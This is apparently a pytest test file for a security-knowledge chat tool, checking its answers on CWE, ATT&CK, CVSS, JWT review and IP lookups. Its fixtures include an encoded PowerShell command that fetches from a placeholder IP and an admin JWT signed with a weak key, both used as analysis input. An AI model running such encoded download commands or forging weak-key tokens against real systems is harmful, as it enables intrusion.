"""Questions that say no subject: they are about the thing of the last answer, and only its tool can take them."""

from __future__ import annotations

from typing import Any

import pytest

pytestmark = pytest.mark.anyio

TOKEN = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJzdmMiLCJyb2xlIjoiYWRtaW4iLCJpYXQiOjE3MDAwMDAwMDAsImV4cCI6MTkwMDAwMDA"
    "wMCwiYXVkIjoiYXBpIn0.rXFMamAkWuc6oyJMcUMZhgT7foXiajeDOktVuMFjEWw"
)
COMMAND = "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANQAvAGEA what does this do"
VECTOR = "score CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"


@pytest.mark.parametrize(
    ("first", "then", "begins"),
    [
        ("What is CWE-79?", "and its parent?", "Parents of CWE-79"),
        ("What is CWE-79?", "examples?", "Observed examples that CWE gives (18)"),
        ("What is T1003?", "its groups?", "Groups that use T1003"),
        ("What is T1003?", "software?", "Software that does T1003"),
        ("What is T1003?", "sub-techniques?", "Sub-techniques of T1003"),
        ("What is T1003?", "one word: which tactic?", "Credential Access"),
        ("who is APT29", "techniques?", "Techniques that G0016 APT29 uses"),
        ("who is APT29", "does it use Mimikatz?", "**Yes**"),
        ("who uses DarkComet?", "which of those are north korean?", "Of the 3 groups of S0334 DarkComet"),
        (
            "does APT29 use T1003?",
            "groups that use both Mimikatz and PsExec?",
            "Groups that use both S0002 Mimikatz and",
        ),
        (VECTOR, "and with S:C?", "**10.0 Critical**"),
        (VECTOR, "and with scope changed?", "**10.0 Critical**"),
        (COMMAND, "iocs?", "**2 indicators**"),
        (f"Review {TOKEN}", "when does it expire?", "It has not expired: it holds until 2030-03-17T17:46:40Z"),
        (f"Review {TOKEN}", "which algorithm? one word", "`HS256`"),
        (f"Review {TOKEN}", "what role", "Its claim `role` is **`admin`**"),
        (f"Review {TOKEN}", "who is the subject?", "Its claim `sub` is **`svc`**"),
        (f"Review {TOKEN}", "is it signed?", "Algorithm `HS256`; **the signature verifies with the weak key"),
        (f"Review {TOKEN}", "only the claims as json", '{\n  "sub": "svc",\n  "role": "admin",'),
    ],
)
async def test_a_question_without_a_subject_is_about_that_of_the_last_answer(
    talk: Any, first: str, then: str, begins: str
) -> None:
    _, turn = await talk(first, then)
    assert turn.answer.startswith(begins)


@pytest.mark.parametrize(
    ("prompt", "answer"),
    [
        ("Only the ID: Kerberoasting technique", "T1558.003"),
        ("yes or no: is T1059 a tactic?", "No"),
        ("In one word, what is the ID of Kerberoasting?", "T1558.003"),
    ],
)
async def test_a_form_before_the_question_leaves_the_question_whole(talk: Any, prompt: str, answer: str) -> None:
    (turn,) = await talk(prompt)
    assert turn.answer == answer


@pytest.mark.parametrize(
    ("prompt", "begins"),
    [
        ("which of 8.8.8.8, 172.31.0.4, 172.32.0.1, fe80::1 are private?", "**1 of 4** is private: `172.31.0.4`."),
        ("10.0.0.1, 10.0.0.2, 8.8.8.8, 2001:db8::1", "4 addresses: 2 private, 1 public, 1 documentation."),
        ("::ffff:10.0.0.1", "`::ffff:a00:1` is a private address"),
        ("is 10.1.2.3 private? one word", "Yes"),
        ("is 8.8.8.8 private? yes or no", "No"),
        ("https://www.bbc.co.uk/news whats the registrable domain, only that", "- `bbc.co.uk`"),
        ("log4shell?", "CVEs with `log4shell` in what CWE says of them:\n\n- **CVE-2021-44228**"),
        ("CWE top 25?", "**CWE-1425 Weaknesses in the 2023 CWE Top 25"),
        ("top 25 cwe of 2021", "**CWE-1337 Weaknesses in the 2021 CWE Top 25"),
        ("whats sql injection", "**CWE-89 "),
        ("path travesal cwe", "No weakness of CWE 4.14 is called `path travesal`. Did you mean:\n\n- CWE-2"),
        ("what version of attack do you have?", "This is the data here"),
    ],
)
async def test_a_short_question_for_a_lookup_is_answered(talk: Any, prompt: str, begins: str) -> None:
    (turn,) = await talk(prompt)
    assert turn.answer.startswith(begins)
